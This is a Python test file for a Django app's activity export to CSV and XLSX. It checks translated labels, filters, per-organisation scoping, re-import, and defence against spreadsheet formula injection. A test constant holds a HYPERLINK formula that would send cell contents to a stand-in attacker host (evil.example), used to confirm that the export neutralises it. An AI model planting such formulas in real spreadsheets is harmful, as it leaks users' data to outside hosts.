"""The workspace's activity list as CSV and XLSX: columns and labels in the reader's
language, the list's filters, the person's scope, no formula in any text cell."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from tests import factories

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def url(lang: str, fmt: str) -> str:
    with translation.override(lang):
        return reverse("workspace:activities_export", kwargs={"fmt": fmt})


@pytest.fixture
def activities(org_a, org_b):
    ours = factories.InitiativeFactory(lead=org_a, title_en="Walks", title_fr="Marches")
    theirs = factories.InitiativeFactory(lead=org_b, title_en="Theirs", title_fr="Les leurs")
    return [
        factories.ActivityFactory(initiative=ours, title=HOSTILE, kind="training",
                                  notes="+1 and -2 @here", date=datetime.date(2021, 3, 2),
                                  participants=14, audience="seniors", language="bilingual"),
        factories.ActivityFactory(initiative=ours, title="Workshop", kind="workshop",
                                  date=datetime.date(2021, 2, 1)),
        factories.ActivityFactory(initiative=theirs, title="Not yours"),
    ]


def read_csv(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_the_csv_has_the_readers_columns_and_labels(client, staff_a, activities):
    client.force_login(staff_a)
    rows = read_csv(client.get(url("fr", "csv")))
    assert rows[0] == ["Date", "Initiative", "Organisme prestataire", "Type", "Titre",
                       "Participants", "Public cible", "Langue de prestation",
                       "Secteur ou quartier", "Notes"]
    assert rows[1][:8] == ["2021-03-02", "Marches", "Organisme A", "Formation",
                           "'" + HOSTILE, "14", "Personnes aînées", "Bilingue"]
    assert rows[1][9] == "'+1 and -2 @here"
    english = read_csv(client.get(url("en", "csv")))
    assert english[0][2:4] == ["Delivering organisation", "Kind"]
    assert english[1][1:4] == ["Walks", "Organisation A", "Training"]


def test_the_export_is_scoped_and_follows_the_filters(client, staff_a, staff_b, activities):
    client.force_login(staff_a)
    titles = [r[4] for r in read_csv(client.get(url("en", "csv")))[1:]]
    assert titles == ["'" + HOSTILE, "Workshop"]
    filtered = read_csv(client.get(url("en", "csv") + "?kind=workshop"))
    assert [r[4] for r in filtered[1:]] == ["Workshop"]
    client.force_login(staff_b)
    assert [r[4] for r in read_csv(client.get(url("en", "csv")))[1:]] == ["Not yours"]


def test_the_xlsx_has_typed_cells_and_no_formula(client, staff_a, activities):
    client.force_login(staff_a)
    response = client.get(url("en", "xlsx"))
    assert response["Content-Disposition"].startswith('attachment; filename="activities-')
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:4] == ("Date", "Initiative", "Delivering organisation", "Kind")
    assert rows[1][0] == datetime.datetime(2021, 3, 2) and rows[1][5] == 14
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert all(c.data_type == "s" for c in cells)
    assert not any(c.value.startswith(("=", "+", "-", "@")) for c in cells)
    assert len(rows) == 3


def test_an_export_imports_again(client, staff_a, activities):
    """The export has the template's columns (plus the organisation, ignored on import)."""
    from initiatives.models import Activity

    client.force_login(staff_a)
    Activity.objects.filter(title=HOSTILE).delete()
    data = client.get(url("fr", "xlsx")).content
    from django.core.files.uploadedfile import SimpleUploadedFile

    with translation.override("fr"):
        response = client.post(reverse("workspace:import_start"),
                               {"file": SimpleUploadedFile("export.xlsx", data)})
    assert response.status_code == 302
    from initiatives.models import ActivityImport

    job = ActivityImport.objects.get()
    assert (job.row_count, job.error_count) == (1, 0)
